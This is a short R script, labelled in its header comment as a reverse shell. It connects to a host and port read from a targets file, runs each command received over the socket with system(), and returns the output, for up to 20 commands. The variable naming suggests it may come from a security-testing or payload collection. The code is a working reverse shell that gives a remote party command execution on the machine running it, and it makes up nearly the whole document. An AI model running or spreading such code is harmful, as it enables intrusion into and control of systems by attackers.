# reverse-shell (R): read commands from the attacker's socket, run them with
# system(), send back the output; at most 20 commands.
tf <- if (exists("TARGETS")) TARGETS else commandArgs(TRUE)[1]
T <- local({ l <- grep("=", readLines(tf), value = TRUE); l <- l[!startsWith(l, "#")]
             setNames(gsub("^'|'$", "", sub("^[^=]*=", "", l)), sub("=.*", "", l)) })
con <- try(socketConnection(T[["T_TCP_HOST"]], as.integer(T[["T_TCP_PORT"]]),
                            blocking = TRUE, open = "r+", timeout = 3), silent = TRUE)
if (inherits(con, "connection")) {
  writeLines(paste("R", getRversion(), "shell ready"), con)
  for (i in 1:20) {
    cmd <- readLines(con, n = 1)
    if (length(cmd) == 0) break
    out <- suppressWarnings(tryCatch(system(cmd, intern = TRUE, ignore.stderr = TRUE),
                                     error = function(e) conditionMessage(e)))
    writeLines(out, con)
  }
  close(con)
} else print(con)
